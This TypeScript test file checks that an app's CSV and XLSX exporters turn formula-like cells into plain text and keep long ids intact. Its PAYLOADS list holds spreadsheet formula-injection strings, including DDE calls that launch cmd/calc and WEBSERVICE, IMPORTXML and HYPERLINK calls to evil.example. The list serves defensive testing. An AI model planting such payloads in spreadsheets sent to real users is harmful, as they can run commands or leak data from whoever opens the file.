import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { readTable } from '../../../electron/services/files/read-table.ts';
import { createCsvWriter } from '../../../electron/services/files/write-csv.ts';
import { createXlsxWriter } from '../../../electron/services/files/write-xlsx.ts';

const HEADERS = ['订单号', 'What', 'Note'];
const ROWS = [
  ['3704612354559743233', '=1+1', 'a "quoted", one'],
  ['0012', '＝cmd', 'two\nlines & <tags> \u0001\uD800'],
  ['', '-1', '平台说：…'],
];

async function cellsOf(bytes: Uint8Array): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const slice of readTable(bytes)) {
    if (!slice.ok) throw new Error(JSON.stringify(slice.error));
    rows.push(...slice.value.rows.map((row) => [...row.cells]));
  }
  return rows;
}

describe('a written XLSX', () => {
  const writer = createXlsxWriter(HEADERS);
  writer.rows(ROWS.slice(0, 1));
  writer.rows([]);
  writer.rows(ROWS.slice(1));
  const bytes = writer.end();
  const wanted = [HEADERS, ROWS[0], ['0012', '＝cmd', 'two\nlines & <tags>  \uFFFD'], ['', '-1', '平台说：…']];

  it('is read by our own reader, every id and sign as it was, and nothing is a formula', async () => {
    expect(await cellsOf(bytes)).toEqual(wanted);
  });

  it('is read the same by another program’s reader', async () => {
    const rows = await readSheet(Buffer.from(bytes));
    expect(rows.map((row) => row.map((cell) => cell ?? ''))).toEqual(wanted);
  });
});

/** Ways to make a cell a formula in Excel, LibreOffice or Google Sheets: 20 beginnings, 10 payloads. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((sign) => [sign, `${sign} `]);
const PAYLOADS = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://evil.example","x")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  'SUM(A1:A9)*cmd|"/c"!A1',
  'DDE("cmd";"/C calc";"x")',
  '"=1+1"',
  '=1+1',
  "'=1+1\n=2+2",
];
const FORMULAS = BEGINNINGS.flatMap((sign) => PAYLOADS.map((payload) => `${sign}${payload}`));

describe(`${FORMULAS.length} cells that want to be formulas`, () => {
  it('are texts with an apostrophe in front in a CSV, each in quotes, in every column', () => {
    for (const ids of [new Set<number>(), new Set([0, 1])]) {
      const writer = createCsvWriter(FORMULAS, ids);
      writer.rows(FORMULAS.map((cell) => [cell, cell]));
      const text = Buffer.from(writer.end()).toString('utf8').slice(1);
      expect(FORMULAS).toHaveLength(200);
      for (const cell of FORMULAS) {
        const written = `"'${cell.replaceAll('"', '""')}"`;
        expect(text.split(written).length - 1, JSON.stringify(cell)).toBeGreaterThanOrEqual(3);
      }
      expect(/(^|[,\n])"[=+\-@\t\r＝＋－＠]/.test(text)).toBe(false);
    }
  });

  it('are texts in an XLSX, which has no formula in it', async () => {
    const writer = createXlsxWriter(['a']);
    writer.rows(FORMULAS.map((cell) => [cell]));
    const bytes = writer.end();
    const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.includes('sheet'));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [, sheet] of sheets) expect(strFromU8(sheet)).not.toMatch(/<f[ >]/);
    expect((await readSheet(Buffer.from(bytes))).flat().filter((cell) => typeof cell !== 'string')).toEqual([]);
  });
});

describe('a written CSV', () => {
  const writer = createCsvWriter(HEADERS, new Set([0]));
  writer.rows(ROWS);
  writer.rows([]);
  const text = Buffer.from(writer.end()).toString('utf8');

  it('has one byte order mark, Windows line ends and quotes around every cell', () => {
    expect(text.startsWith('\uFEFF"订单号","What","Note"\r\n"')).toBe(true);
    expect(text.indexOf('\uFEFF', 1)).toBe(-1);
    expect(text.endsWith('"\r\n')).toBe(true);
  });

  it('never lets a cell start a formula', () => {
    for (const cell of ['"\'=1+1"', '"\'＝cmd"', '"\'-1"']) expect(text).toContain(cell);
  });

  it('keeps a spreadsheet program from rounding ids, and our own import reads them back', async () => {
    expect(text).toContain('"3704612354559743233\t"');
    const [, first, second] = await cellsOf(Buffer.from(text));
    expect([first?.[0]?.trim(), second?.[0]]).toEqual(['3704612354559743233', '0012']);
  });
});
